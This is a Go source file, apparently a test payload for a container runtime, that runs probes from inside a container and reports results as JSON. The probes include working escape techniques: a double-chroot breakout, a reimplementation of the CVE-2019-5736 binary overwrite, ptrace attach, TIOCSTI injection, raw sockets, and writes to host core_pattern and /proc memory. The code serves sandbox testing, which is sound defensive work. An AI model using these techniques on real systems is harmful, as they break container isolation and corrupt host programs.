// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// payload runs the named probes and prints their results as one JSON object. A
// name with "!" in front is a caller that becomes another program.
func payload(names []string) int {
	if len(names) > 1 && strings.HasPrefix(names[0], "!") {
		fmt.Fprintln(os.Stderr, become(names[0], names[1:]))
		return 98
	}
	out := map[string]string{}
	for _, n := range names {
		name, arg, _ := strings.Cut(n, "=")
		probe, ok := probes[name]
		if !ok {
			fmt.Fprintf(os.Stderr, "no probe %q\n", name)
			return 99
		}
		out[n] = probe(arg)
	}
	if err := json.NewEncoder(os.Stdout).Encode(out); err != nil {
		return 97
	}
	return 0
}

// outcome is "ok" or the errno's name.
func outcome(err error) string {
	var errno syscall.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &errno):
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

func text(s string, err error) string {
	if err != nil {
		return outcome(err)
	}
	return s
}

func errnoOf(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// become changes this process and execs the runtime.
func become(change string, argv []string) error {
	var err error
	switch change {
	case "!groups":
		err = unix.Setgroups([]int{27, 4, 1234})
	case "!capabilities":
		header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
		var data [2]unix.CapUserData
		if err = unix.Capget(&header, &data[0]); err == nil {
			for i := range data {
				data[i].Inheritable = data[i].Permitted
			}
			if err = unix.Capset(&header, &data[0]); err == nil {
				for _, c := range []uintptr{unix.CAP_NET_BIND_SERVICE, unix.CAP_CHOWN} {
					err = errors.Join(err, unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, c, 0, 0))
				}
			}
		}
	case "!keyring":
		if _, err = unix.KeyctlJoinSessionKeyring("attack"); err == nil {
			_, err = unix.AddKey("user", "attack-secret", []byte("x"), unix.KEY_SPEC_SESSION_KEYRING)
		}
	case "!umask":
		unix.Umask(0)
	case "!store":
		// The caller is in a mount namespace of its own.
		for place, dir := range map[string]string{"/var/lib": argv[0] + "/lib", "/run": argv[0] + "/run"} {
			err = errors.Join(err, os.MkdirAll(dir, 0o755), unix.Mount(dir, place, "", unix.MS_BIND, ""))
		}
		argv = argv[1:]
	}
	if err != nil {
		return err
	}
	return unix.Exec(argv[0], argv, os.Environ())
}

// probes look from inside.
var probes = map[string]func(string) string{
	"neighbours": neighbours,
	"read":       func(path string) string { b, err := os.ReadFile(path); return text(string(b), err) },
	"create":     func(path string) string { return outcome(os.WriteFile(path, []byte("made inside"), 0o644)) },
	"write": func(path string) string {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.WriteString("pwned")
			err = errors.Join(err, f.Close())
		}
		return outcome(err)
	},
	"open": func(path string) string {
		f, err := os.OpenFile(path, os.O_RDWR|unix.O_NOCTTY, 0)
		if err == nil {
			f.Close()
		}
		return outcome(err)
	},
	"open-w": func(path string) string {
		f, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		return outcome(err)
	},
	"stat": func(path string) string {
		var st unix.Stat_t
		err := unix.Lstat(path, &st)
		return text(fmt.Sprintf("%o %d:%d", st.Mode, st.Uid, st.Gid), err)
	},
	"list": func(path string) string {
		entries, err := os.ReadDir(path)
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		return text(strings.Join(names, " "), err)
	},
	"link":   func(path string) string { return text(os.Readlink(path)) },
	"status": status,
	"ids":    func(string) string { g, _ := unix.Getgroups(); return fmt.Sprint(os.Getuid(), os.Getgid(), g) },
	"cwd":    func(string) string { return text(os.Getwd()) },
	"env":    func(string) string { return strings.Join(os.Environ(), "\n") },
	"fds":    func(string) string { return descriptors() },
	"mount":  func(path string) string { return outcome(unix.Mount("tmpfs", path, "tmpfs", 0, "")) },
	"mknod": func(path string) string {
		return outcome(unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 11))))
	},
	"kill": func(pid string) string {
		var n int
		if _, err := fmt.Sscan(pid, &n); err != nil {
			return err.Error()
		}
		return outcome(unix.Kill(n, 0))
	},
	"key": func(name string) string {
		_, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0)
		return outcome(err)
	},
	"tiocsti": func(string) string {
		c := byte('x')
		_, _, e := syscall.RawSyscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
		return outcome(errnoOf(e))
	},
	"unshare": func(kind string) string {
		return outcome(unix.Unshare(map[string]int{"user": unix.CLONE_NEWUSER, "cgroup": unix.CLONE_NEWCGROUP, "net": unix.CLONE_NEWNET}[kind]))
	},
	"call":   func(name string) string { return outcome(call(name)) },
	"socket": func(kind string) string { return outcome(socket(kind)) },
	"ptrace": func(string) string {
		_, _, e := syscall.RawSyscall(unix.SYS_PTRACE, unix.PTRACE_ATTACH, uintptr(os.Getppid()), 0)
		return outcome(errnoOf(e))
	},
	// escape is the double chroot: with a working directory outside of the root
	// ".." goes on beyond it.
	"escape": func(decoy string) string {
		if err := errors.Join(os.MkdirAll("/tmp/jail", 0o755), unix.Chroot("/tmp/jail")); err != nil {
			return "chroot: " + err.Error()
		}
		for range 64 {
			_ = unix.Chdir("..")
		}
		_ = unix.Chroot(".")
		_, err := os.ReadFile(decoy)
		return outcome(err)
	},
	// exec runs another program, which tells its user ids.
	"exec": func(program string) string {
		out, err := exec.Command(program, "payload", "status=Uid").Output()
		return text(string(out), err)
	},
	// hold says that it runs and stays until its standard input ends.
	"hold": func(string) string {
		fmt.Println("holding")
		_, err := io.Copy(io.Discard, os.Stdin)
		return outcome(err)
	},
	"spy":       spy,
	"overwrite": overwrite,
}

func status(name string) string {
	b, err := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(line, name+":"); ok {
			return strings.TrimSpace(v)
		}
	}
	return text("absent", err)
}

// descriptors are those that came from outside; Go's runtime has its own.
func descriptors() string {
	var out []string
	for fd := range 256 {
		target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err == nil && !strings.HasPrefix(target, "anon_inode:") && !strings.HasPrefix(target, "/proc/") {
			out = append(out, fmt.Sprint(fd))
		}
	}
	return strings.Join(out, " ")
}

// call makes system calls that lead out, with arguments that the kernel finds
// fault with if the filter lets them pass.
func call(name string) error {
	nr, ok := map[string]uintptr{
		"fsopen": unix.SYS_FSOPEN, "open_tree": unix.SYS_OPEN_TREE, "move_mount": unix.SYS_MOVE_MOUNT, "setns": unix.SYS_SETNS, "vmsplice": unix.SYS_VMSPLICE,
		"add_key": unix.SYS_ADD_KEY, "keyctl": unix.SYS_KEYCTL, "bpf": unix.SYS_BPF, "io_uring": unix.SYS_IO_URING_SETUP, "userfaultfd": unix.SYS_USERFAULTFD,
		"pidfd_getfd": unix.SYS_PIDFD_GETFD, "process_vm_readv": unix.SYS_PROCESS_VM_READV, "open_by_handle_at": unix.SYS_OPEN_BY_HANDLE_AT,
		"perf_event_open": unix.SYS_PERF_EVENT_OPEN, "clone3": unix.SYS_CLONE3,
	}[name]
	if !ok {
		return fmt.Errorf("no call %q", name)
	}
	_, _, e := syscall.RawSyscall6(nr, ^uintptr(0), 0, 0, 0, 0, 0)
	return errnoOf(e)
}

func socket(kind string) error {
	s, ok := map[string][3]int{
		"packet": {unix.AF_PACKET, unix.SOCK_RAW, 0}, "alg": {unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, "vsock": {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
		"key": {unix.AF_KEY, unix.SOCK_RAW, 2}, "rxrpc": {unix.AF_RXRPC, unix.SOCK_DGRAM, unix.AF_INET}, "xdp": {unix.AF_XDP, unix.SOCK_RAW, 0},
		"xfrm": {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_XFRM}, "audit": {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
		"netfilter": {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER}, "raw": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
	}[kind]
	if !ok {
		return fmt.Errorf("no socket %q", kind)
	}
	fd, err := unix.Socket(s[0], s[1], s[2])
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// eachOther is for the processes that are neither the first nor this one.
func eachOther(do func(dir string)) {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if strings.Trim(e.Name(), "0123456789") == "" && e.Name() != "1" && e.Name() != fmt.Sprint(os.Getpid()) {
			do("/proc/" + e.Name())
		}
	}
}

// spy looks for processes whose program is not the payload's and counts those
// that it can look into.
func spy(string) string {
	own, _ := os.Stat("/proc/self/exe")
	fmt.Println("ready")
	tried, reached := 0, 0
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			return fmt.Sprintf("%d %d", tried, reached)
		}
		eachOther(func(dir string) {
			tried++
			if exe, err := os.Stat(dir + "/exe"); err == nil && !os.SameFile(exe, own) {
				reached++
			}
		})
	}
}

// overwrite does what CVE-2019-5736 did: it holds the program of a process that
// joins, and writes to it as soon as nobody runs it any more.
func overwrite(string) string {
	own, _ := os.Stat("/proc/self/exe")
	fmt.Println("ready")
	tried := 0
	var found []int
	for {
		if _, err := os.Stat("/tmp/stop"); err == nil {
			return fmt.Sprintf("%d %d", tried, len(found))
		}
		eachOther(func(dir string) {
			tried++
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				return
			}
			if exe, err := os.Stat(fmt.Sprintf("/proc/self/fd/%d", fd)); err != nil || os.SameFile(exe, own) || len(found) > 64 {
				unix.Close(fd)
				return
			}
			found = append(found, fd)
		})
		for _, fd := range found {
			if f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0); err == nil {
				_, _ = f.WriteAt([]byte("pwned"), 1<<10)
				f.Close()
			}
		}
	}
}

// neighbours tells what can be had of the processes that are not the container's
// own: those whose program is another file.
func neighbours(string) string {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return outcome(err)
	}
	seen, had := 0, ""
	all, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range all {
		if exe, err := os.Stat(p + "/exe"); err == nil && os.SameFile(exe, own) {
			continue
		}
		seen++
		if f, err := os.OpenFile(p+"/mem", os.O_RDWR, 0); err == nil {
			f.Close()
			had += ", its memory"
		}
		settings, _ := filepath.Glob(p + "/fd/*/sys/kernel/core_pattern")
		for _, s := range settings {
			if f, err := os.OpenFile(s, os.O_WRONLY, 0); err == nil {
				f.Close()
				had += ", settings of the host"
			}
		}
	}
	return fmt.Sprintf("%d seen%s", seen, had)
}
